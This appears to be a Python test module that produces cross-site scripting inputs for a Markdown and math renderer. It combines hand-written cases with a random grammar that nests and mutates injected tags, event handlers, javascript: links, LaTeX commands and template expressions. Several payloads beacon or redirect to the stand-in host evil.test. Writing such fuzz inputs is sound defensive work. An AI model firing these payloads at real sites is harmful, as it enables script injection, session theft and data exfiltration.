"""Texts that try to become active on a page: by hand, and at random by a grammar.

Every payload calls `pwn(...)`, opens a dialog, or asks `evil.test` for something, and
every text holds the word WORD, by which a page's test finds where it has come to.
"""

import random

WORD = "zqxword"
PAYLOADS = (
    "pwn(1)",
    "alert(1)",
    "fetch('http://evil.test/f')",
    "new Image().src='http://evil.test/i'",
    "parent.pwn(2)",
    "location='http://evil.test/l'",
)
TAGS = (
    *("script", "img", "input", "svg", "iframe", "style", "math", "a", "video", "form"),
    *("object", "embed", "base", "link", "meta", "details", "template", "textarea"),
    *("noscript", "title", "select", "marquee", "table", "div", "plaintext", "xmp"),
)
ATTRIBUTES = (
    *("autofocus onfocus={}", "src=x onerror={}", "onload={}", "onmouseover={}"),
    *("href=javascript:{}", "src=http://evil.test/s", "open ontoggle={}", "id=x"),
    *('style="background:url(http://evil.test/b)"', "srcdoc='<script>{}</script>'"),
    *("http-equiv=refresh content='0;url=http://evil.test/r'", "action=javascript:{}"),
    *("onanimationstart={}", "xlink:href=javascript:{}", "data=javascript:{}"),
)
COMMANDS = (
    *(r"\href{{javascript:{}}}{{x}}", r"\class{{a}}{{x}}", r"\cssId{{i}}{{x}}"),
    *(r"\require{{html}}{}", r"\unicode{{x3c}}", r"\style{{color:red}}{{{}}}"),
    *(r"\text{{<img src=x onerror={}>}}", r"\mathrm{{<script>{}</script>}}"),
    *(r"\def\x{{\x\x}}\x{}", r"\input", r"\data", r"\htmlData{{a={}}}{{x}}"),
    *(r"\includegraphics{{http://evil.test/g}}", r"\color{{red}}{}", r"\url{{{}}}"),
)
CASES = (
    r"<\input autofocus onfocus=pwn(1)>",
    r"<\data><\script>pwn(1)</\script>",
    r"\\href{javascript:pwn(1)}{x}",
    "$$</div><script>pwn(1)</script>$$",
    "$\\text{</math><img src=x onerror=pwn(1)>}$",
    "```mermaid\n<img src=x onerror=pwn(1)>\n```",
    "```html\n<script>pwn(1)</script>\n```",
    "</div></div><script>pwn(1)</script>",
    "\n\n</div>\n\n<script>pwn(1)</script>\n\n",
    "<!-- --><script>pwn(1)</script>",
    "<![CDATA[ ]]><script>pwn(1)</script>",
    "[a](javascript:pwn(1)) [b]\n\n[b]: javascript:pwn(2)",
    "![x](http://evil.test/i.png) <http://evil.test/u> http://evil.test/p",
    "![x](attachment:none.png)",
    "&lt;script&gt;pwn(1)&lt;/script&gt; &#60;img src=x onerror=pwn(1)&#62;",
    "\\(\\href{javascript:pwn(1)}{x}\\) \\[\\class{a}{b}\\]",
    r"\begin{align}\href{javascript:pwn(1)}{x}\end{align}",
    "<a\x00b><img\x0bsrc=x onerror=pwn(1)>",
    "`<img src=x onerror=pwn(1)>` ``` <script>pwn(1)</script>",
    "| <img src=x onerror=pwn(1)> | b |\n|---|---|\n| $x$ | </table><script>pwn(1) |",
    "- [ ] <input autofocus onfocus=pwn(1)>\n- [x] x",
    '<img src="x` `<script>pwn(1)</script>"` `>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=pwn(1)>",
    "${''.constructor.constructor('pwn(1)')()} {{ pwn(1) }} {% raw %} #{pwn(1)}",
)


def texts(count, seed=0):
    """That many texts: those written by hand, then random ones."""
    generator = random.Random(seed)
    found = [f"{WORD} {case}" for case in CASES[:count]]
    while len(found) < count:
        found.append(_grown(generator, 3).replace("WORD", WORD) + f" {WORD}")
    return found


def _grown(generator, depth):
    """A piece of text; pieces hold pieces."""
    pick = generator.choice
    if depth == 0 or generator.random() < 0.15:
        return _leaf(generator)
    inner = [_grown(generator, depth - 1) for _ in range(generator.randint(1, 3))]
    text = pick(("", " ", "\n", "\n\n", "\t")).join(inner)
    frames = (
        *("{}", "**{}**", "*{}*", "_{}_", "`{}`", "``{}``", "${}$", "$${}$$"),
        *("\\\\({}\\\\)", "\\[{}\\]", "```\n{}\n```", "~~~mermaid\n{}\n~~~", "> {}"),
        *("- {}", "1. {}", "# {}", "    {}", "| {} | b |\n|--|--|\n| {} | c |"),
        *("[{}](javascript:pwn(1))", "![{}](http://evil.test/m)", "<div>{}</div>"),
        *("<!-- {} -->", "\\begin{{align}}{}\\end{{align}}", "\\frac{{{}}}{{2}}"),
        *("[a]: {}", "<{}>", "\\{}", "{}\n===", "\n\n{}\n\n", "&{};", "\\text{{{}}}"),
        *("</div>{}", "</p></li></code></pre>{}", "</math>{}", "--> {}", "]]>{}"),
    )
    text = pick(frames).replace("{{", "{").replace("}}", "}").replace("{}", text)
    return _mutated(generator, text) if generator.random() < 0.4 else text


def _leaf(generator):
    pick = generator.choice
    payload = pick(PAYLOADS)
    tag = pick(TAGS)
    kind = generator.randrange(6)
    if kind == 0:
        return f"<{tag} {pick(ATTRIBUTES).format(payload)}>"
    if kind == 1:
        return f"<{tag}>{payload}</{tag}>"
    if kind == 2:
        return pick(COMMANDS).format(payload)
    if kind == 3:
        return pick(("WORD", "x^2", "a_b", "\\alpha", "1 < 2", "\\", "$", "`", "]("))
    if kind == 4:
        return pick(("&lt;", "&#x3c;script&#x3e;", "\\<", "\\u003c", "%3Cscript%3E"))
    return pick(("<", ">", "\"'", "http://evil.test/", "\r", "\\\n", "  \n", "|", "~~"))


def _mutated(generator, text):
    """One character put in, left out or doubled somewhere, often a backslash."""
    place = generator.randrange(len(text) + 1)
    kind = generator.randrange(4)
    if kind == 0:
        return text[:place] + text[place + 1 :]
    if kind == 1:
        return text[:place] + text[place : place + 1] * 2 + text[place + 1 :]
    odd = "\\\\\\\x00\x0b\u200b\u2028\u202e`$*_<>\n&"
    return text[:place] + generator.choice(odd) + text[place:]
